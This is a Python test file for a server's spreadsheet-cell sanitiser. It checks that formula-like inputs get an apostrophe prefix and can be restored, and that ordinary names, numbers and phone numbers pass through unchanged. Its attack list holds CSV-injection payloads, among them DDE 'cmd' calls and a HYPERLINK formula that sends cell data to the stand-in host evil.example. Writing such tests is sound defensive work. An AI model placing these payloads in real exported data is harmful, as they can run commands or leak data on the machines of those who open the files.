"""No text of ours is run by a spreadsheet program, and what has been made safe can be read back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scim_server.services.spreadsheet_cells import is_formula, original_cell, safe_cell

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "-",
    "=",
    "-5-5",
    "+1-800-555",
    "+49 30/12",
    "-1e5e5",
    "- 5",
    "+",
    "-٣",
    *(f"{blank}=1" for blank in map(chr, range(0x10000)) if blank.isspace()),
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_begins_with_an_apostrophe(attack: str) -> None:
    assert safe_cell(attack).startswith("'")
    assert original_cell(safe_cell(attack)) == attack
    assert is_formula(attack)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Ada Lovelace",
        "ada@example.com",
        "O'Neil",
        "'s-Gravenhage",
        "Jean-Luc",
        "1=2",
        "-3",
        "+1.5",
        "-1,000.50",
        "-2e5",
        "-7%",
        "+442079460958",
        "+44 20 7946 0958",
        "tel:+1-201-555-0123",
        "2026-11-22T09:00:00Z",
        "Müller; Frau",
        "12;34",
    ],
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text
    assert original_cell(text) == text
    assert not is_formula(text)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("a;=1+1", "a;'=1+1"),
        ('a";=1+1;"', 'a";\'=1+1;"'),
        ("a\n=1+1", "a\n'=1+1"),
        ("a\t @SUM(1)", "a\t '@SUM(1)"),
        ('a;"-1', "a;\"'-1"),
        ("=1;=2", "'=1;'=2"),
    ],
)
def test_a_formula_begins_no_cell_of_a_program_that_separates_by_something_else(text: str, safe: str) -> None:
    assert safe_cell(text) == safe
    assert original_cell(safe) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\" ;\t\r\n,a1＝\u200b"), max_size=12) | st.text(max_size=20))  # noqa: RUF001
def test_what_was_made_safe_is_read_back(text: str) -> None:
    assert original_cell(safe_cell(text)) == text
    assert original_cell(text) == text or safe_cell(original_cell(text)) == text


def test_a_long_text_of_separators_takes_no_time() -> None:
    assert safe_cell("a" + "\n;\t " * 250_000).startswith("a")
